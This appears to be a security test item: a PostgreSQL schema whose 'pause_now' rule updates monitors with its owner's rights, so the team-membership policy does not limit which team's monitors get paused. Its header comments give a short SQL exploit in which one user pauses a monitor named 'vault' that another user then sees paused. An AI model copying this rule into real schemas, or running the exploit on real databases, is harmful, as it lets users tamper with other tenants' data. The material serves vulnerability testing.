-- The rule on the request table changes monitors with its owner's rights, for any team that the new row
-- names.
-- about: pause_requests, monitors, pause_now
-- as: hf_heartbeat_app
-- exploit: SET request.jwt.claims = '{"sub":"usr_ann"}';
-- exploit: INSERT INTO pause_requests VALUES ('tm_north', 'vault');
-- exploit: SET request.jwt.claims = '{"sub":"usr_bob"}';
-- exploit: SELECT id, state FROM monitors;
-- shows: vault | paused
CREATE TABLE pause_requests (
  team_id text NOT NULL REFERENCES teams,
  monitor_id text NOT NULL
);
ALTER TABLE pause_requests ENABLE ROW LEVEL SECURITY;
ALTER TABLE pause_requests FORCE ROW LEVEL SECURITY;
CREATE POLICY "Team members only" ON pause_requests USING (is_team_member(team_id));
GRANT SELECT, INSERT ON pause_requests TO hf_heartbeat_app;
CREATE RULE pause_now AS ON INSERT TO pause_requests
  DO ALSO UPDATE monitors SET state = 'paused' WHERE id = NEW.monitor_id;
